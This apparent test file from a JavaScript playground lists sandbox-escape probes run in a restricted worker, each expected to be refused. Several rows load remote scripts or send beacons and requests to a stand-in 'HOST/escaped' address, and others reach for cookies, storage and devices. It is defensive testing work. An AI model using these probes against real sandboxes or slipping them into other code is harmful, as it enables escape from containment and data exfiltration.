import type { JavaScriptAttack } from './attack.js';

/**
 * Attacks in a worker of the hidden frame with more than JavaScript: the test language has kept in
 * `Math.kept` everything that the browser offers to workers, before it was removed. Only the frame restricts
 * these programs, by its opaque origin and its policy. `HOST` stands for the address of a server that would
 * answer.
 */

type Row = readonly [name: string, origin: string, program: string];

const REQUESTS: readonly Row[] = [
  ['a request', 'CORS is no wall', 'await power.fetch("HOST/escaped"); return "REACHED";'],
  [
    'a request without an answer',
    'CORS is no wall',
    'await power.fetch("HOST/escaped", { mode: "no-cors" }); return "REACHED";',
  ],
  [
    'a request that outlives its worker',
    'CORS is no wall',
    'await power.fetch("HOST/escaped", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }); return "REACHED";',
  ],
  [
    'a request of the old kind',
    'CORS is no wall',
    'const x = new power.XMLHttpRequest(); x.open("GET", "HOST/escaped", false); x.send(); return "REACHED";',
  ],
  [
    'a beacon',
    'requests that nobody reads',
    'if (!power.navigator.sendBeacon("HOST/escaped", "x")) throw 1; return "REACHED";',
  ],
  [
    'a script',
    'importScripts is not held by CORS',
    'power.importScripts("HOST/escaped.js"); return "REACHED";',
  ],
  ['a script by import()', 'import of a URL', 'await import("HOST/escaped.js"); return "REACHED";'],
  [
    'a script by import() in a blob',
    'import of a URL',
    'const code = new power.Blob([`import "HOST/escaped.js"; export const x = 1;`], { type: "text/javascript" }); await import(power.URL.createObjectURL(code)); return "REACHED";',
  ],
  [
    'a font',
    'requests of styles',
    'await new power.FontFace("x", "url(HOST/escaped)").load(); return "REACHED";',
  ],
  [
    'a socket',
    'sockets are not held by CORS',
    'return new Promise((y) => { const s = new power.WebSocket("HOST/escaped".replace("http", "ws")); s.onopen = () => y("REACHED"); s.onerror = () => y("refused"); });',
  ],
  [
    'a stream of events',
    'CORS is no wall',
    'return new Promise((y) => { const s = new power.EventSource("HOST/escaped"); s.onopen = () => y("REACHED"); s.onerror = () => y("refused"); });',
  ],
  [
    'a session of WebTransport',
    'sockets are not held by CORS',
    'await new power.WebTransport("HOST/escaped".replace("http:", "https:")).ready; return "REACHED";',
  ],
  [
    'a connection to a peer',
    'connections beside requests',
    'new power.RTCPeerConnection(); return "REACHED";',
  ],
];

const WORKERS: readonly Row[] = [
  [
    'a worker from an address',
    'nested workers',
    'return new Promise((y) => { const w = new power.Worker("HOST/escaped.js"); w.onmessage = () => y("REACHED"); w.onerror = () => y("refused"); });',
  ],
  [
    'a worker that makes requests',
    'nested workers',
    'const code = `fetch("HOST/escaped", { mode: "no-cors" }).then(() => postMessage("REACHED"), () => postMessage("refused"))`; return new Promise((y) => { const w = new power.Worker(power.URL.createObjectURL(new power.Blob([code]))); w.onmessage = ({ data }) => y(data); w.onerror = () => y("refused"); });',
  ],
  [
    'a worker that is a module',
    'nested workers',
    'const code = new power.Blob([`import "HOST/escaped.js"; postMessage("REACHED");`], { type: "text/javascript" }); return new Promise((y) => { const w = new power.Worker(power.URL.createObjectURL(code), { type: "module" }); w.onmessage = ({ data }) => y(data); w.onerror = () => y("refused"); });',
  ],
  [
    'a worker that is shared',
    'nested workers',
    'new power.SharedWorker("HOST/escaped.js"); return "REACHED";',
  ],
  [
    'a worker that serves',
    'workers that stay',
    'await power.navigator.serviceWorker.register("HOST/escaped.js"); return "REACHED";',
  ],
];

const STORES: readonly Row[] = [
  [
    'a database',
    'storage of the origin',
    'return new Promise((y) => { const q = power.indexedDB.open("x"); q.onsuccess = () => y("REACHED"); q.onerror = () => y("refused"); });',
  ],
  ['a cache', 'storage of the origin', 'await power.caches.open("x"); return "REACHED";'],
  [
    'the folder of the origin',
    'storage of the origin',
    'await power.navigator.storage.getDirectory(); return "REACHED";',
  ],
  [
    'storage of the page',
    'storage of the origin',
    'power.localStorage.setItem("x", "x"); return "REACHED";',
  ],
  ['cookies', 'storage of the origin', 'await power.cookieStore.getAll(); return "REACHED";'],
  [
    'locks of the origin',
    'what tabs of an origin share',
    'await power.navigator.locks.request("x", () => 1); return "REACHED";',
  ],
  [
    'the origin',
    'what tabs of an origin share',
    'return power.origin === "null" ? "nothing" : "REACHED " + power.origin;',
  ],
  [
    'the address of the page',
    'what a page knows',
    'return power.location.href.includes("playground") ? "REACHED" : "nothing";',
  ],
  [
    'the document',
    'what a page knows',
    'return power.document === undefined && power.window === undefined ? "nothing" : "REACHED";',
  ],
  ['shared memory', 'exact clocks', 'new power.SharedArrayBuffer(8); return "REACHED";'],
  [
    'devices',
    'powers of the machine',
    'await Promise.any([power.navigator.usb.getDevices(), power.navigator.serial.getPorts(), power.navigator.hid.getDevices()]); return "REACHED";',
  ],
  [
    'a notice on the screen',
    'powers of the machine',
    'if (new power.Notification("x") && power.Notification.permission !== "granted") throw 1; return "REACHED";',
  ],
];

/** Some attacks are never told that they failed. */
const withSilence = (program: string): string =>
  `const power = Math.kept;
   const attempt = (async () => { ${program} })().catch((error) => 'refused ' + error);
   return Promise.race([attempt, new Promise((y) => power.setTimeout(() => y('silence'), 1000))]);`;

export const BROWSER_POWERS: readonly JavaScriptAttack[] = [...REQUESTS, ...WORKERS, ...STORES].map(
  ([name, origin, program]) => ({
    name: `kept by a worker: ${name}`,
    origin,
    program: withSilence(program),
    ends: 'refused',
    only: 'browser',
  }),
);
